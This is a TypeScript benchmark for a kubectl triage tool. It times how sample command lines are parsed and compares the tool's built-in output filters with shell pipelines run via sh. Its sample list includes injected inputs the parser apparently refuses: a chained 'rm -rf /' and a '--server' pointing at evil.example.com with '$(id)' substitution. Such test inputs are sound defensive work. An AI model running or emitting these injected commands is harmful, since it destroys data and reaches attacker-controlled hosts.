import { spawn } from "node:child_process";
import { once } from "node:events";
import { startFilters } from "../src/core/kubectl/filters/apply-filters.ts";
import { parseCommand } from "../src/core/kubectl/parse.ts";
import { milliseconds, sideBySide, summary, timed } from "./measure.ts";

const commandLines = [
  "kubectl get pods -A",
  "kubectl describe pod web-7d4b9c6f5-x2x8k -n shop",
  "kubectl logs deployment/checkout -n shop --tail=100 --previous -c app",
  "kubectl get pods -A -o wide --field-selector=status.phase!=Running | grep -v Completed | sort -k4 | head -20",
  'kubectl patch deployment web -n shop -p \'{"spec":{"replicas":2}}\'',
  "kubectl exec db-0 -n data -- psql -c 'select 1; select 2'",
  "kubectl delete pod web; rm -rf /",
  "kubectl get pods --server=https://evil.example.com $(id)",
];
/** Smaller where the machine is slow or busy: `KUBETRIAGE_BENCH_MB=10 npm run bench -- pipeline`. */
const megabytes = Number(process.env.KUBETRIAGE_BENCH_MB ?? 100);
const lineText = (index: number) =>
  `shop   checkout-${(index * 7_919) % 99_991}-x2x8k   1/1   ${index % 5 === 0 ? "Running" : "Pending"}   ${index % 17}   6d18h   10.0.${index % 250}.7`;
const lineCount = Math.ceil((megabytes * 1_000_000) / (lineText(12_345).length + 1));

/** 1,000 parses of what people and models write, also of what is refused. */
export async function parses(): Promise<string[]> {
  const values: number[] = [];
  const thousand = async () => {
    for (let index = 0; index < 1_000; index += 1) parseCommand(commandLines[index % commandLines.length]!);
  };
  const first = await timed(thousand);
  for (let index = 0; index < 40; index += 1) values.push(await timed(thousand));
  return [`first 1,000        ${first.toFixed(1)} ms`, `later 1,000        ${milliseconds(values)}`];
}

/** The same lines through the filters of the service and through the programs of the machine, in turns; each is told when it is done. */
export async function pipelines(): Promise<string[]> {
  for (const pipeline of [
    "grep -v Running | sort | head",
    "grep -v Running | wc -l",
    "sort -rk5 -n | head -20",
    "awk '{print $4}' | sort -u | head",
    "awk '{print $4}' | sort | uniq -c",
    "cut -c1-40 | uniq -c | tail -5",
  ]) {
    let peak = 0;
    const [ours, theirs] = await sideBySide(
      2,
      async () => {
        peak = Math.max(peak, await throughFilters(pipeline));
      },
      () => throughPrograms(pipeline),
    );
    const rate = (values: readonly number[]) => `${((megabytes * 1_000) / summary(values).median).toFixed(0)} MB/s`;
    process.stdout.write(
      `  ${pipeline}\n    here             ${rate(ours)}, peak ${peak.toFixed(0)} MiB above the start\n    programs         ${rate(theirs)}, started by sh\n`,
    );
  }
  return [];
}

/** Answers by how many MiB the process grew at most. */
async function throughFilters(pipeline: string): Promise<number> {
  const parsed = parseCommand(`kubectl get pods | ${pipeline}`);
  if (!parsed.ok) throw new Error(parsed.refusal.reason);
  const before = process.memoryUsage.rss();
  let peak = 0;
  const running = startFilters(parsed.command.filters, () => undefined);
  for (let index = 0; index < lineCount && !running.isDone(); index += 1) {
    if (index % 20_000 === 0) peak = Math.max(peak, process.memoryUsage.rss() - before);
    running.push(lineText(index));
  }
  await running.end();
  return Math.max(peak, process.memoryUsage.rss() - before) / 1024 / 1024;
}

async function throughPrograms(pipeline: string): Promise<void> {
  const child = spawn("sh", ["-c", pipeline], {
    stdio: ["pipe", "ignore", "inherit"],
    env: { ...process.env, LC_ALL: "C" },
  });
  child.stdin.on("error", () => {});
  const ended = once(child, "close");
  let chunk = "";
  for (let index = 0; index < lineCount && child.stdin.writable; index += 1) {
    chunk += `${lineText(index)}\n`;
    if (chunk.length < 65_536) continue;
    if (!child.stdin.write(chunk)) await Promise.race([once(child.stdin, "drain"), ended]).catch(() => {});
    chunk = "";
  }
  child.stdin.end(chunk);
  await ended;
}
